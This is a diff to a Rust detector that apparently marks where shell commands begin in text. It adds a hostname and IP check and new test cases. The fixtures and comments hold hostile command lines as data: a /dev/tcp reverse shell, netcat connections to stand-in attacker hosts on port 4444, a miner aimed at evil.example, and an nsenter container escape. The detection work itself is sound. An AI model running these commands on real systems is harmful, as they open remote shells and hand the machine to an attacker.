@@ -168,6 +168,16 @@ fn runs(inner: &[u8]) -> bool {
         || word && !classify(inner).hints()
 }
 
+/// `203.0.113.66`, `evil.example`: whom a program talks to. No sentence has a dot in a word.
+fn is_host(word: &[u8]) -> bool {
+    let mut labels = 0;
+    let plain = word.split(|b| *b == b'.').all(|label| {
+        labels += 1;
+        !label.is_empty() && label.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'-')
+    });
+    plain && labels > 1
+}
+
 /// Where the first piece starts that is a command with a path or an option.
 fn first_command(text: &[u8]) -> Option<usize> {
     let mut at = 0;
@@ -184,9 +194,12 @@ fn first_command(text: &[u8]) -> Option<usize> {
             [b'-', letter, ..] => letter.is_ascii_alphabetic() || *letter == b'-',
             // Also what it reads and writes: `< /x`, `>> /x`, `3<>/dev/tcp/h/1`.
             [b'/' | b'<' | b'>', ..] => true,
-            _ => [b"://".as_slice(), b"/dev/tcp/"]
-                .iter()
-                .any(|sign| memchr::memmem::find(word, sign).is_some()),
+            _ => {
+                is_host(word)
+                    || [b"://".as_slice(), b"/dev/tcp/"]
+                        .iter()
+                        .any(|sign| memchr::memmem::find(word, sign).is_some())
+            }
         };
         // `/tmp/x -o evil.example`
         let runs_a_file = first[0] == b'/' && first.len() > 3;
@@ -219,6 +232,8 @@ mod tests {
             ("exec 3<>/dev/tcp/6.6.6.6/443; sh <&3", vec![]),
             ("/tmp/Miner9x -o evil.example", vec![]),
             ("x\nnsenter -t 1 -m sh\n", vec!["x"]),
+            ("nc 203.0.113.66 4444", vec![]),
+            ("x; nc evil.example 4444", vec!["x"]),
         ] {
             let mut parts = Vec::new();
             assert!(around(text.as_bytes(), |part| parts.push(&text[part])), "{text}");
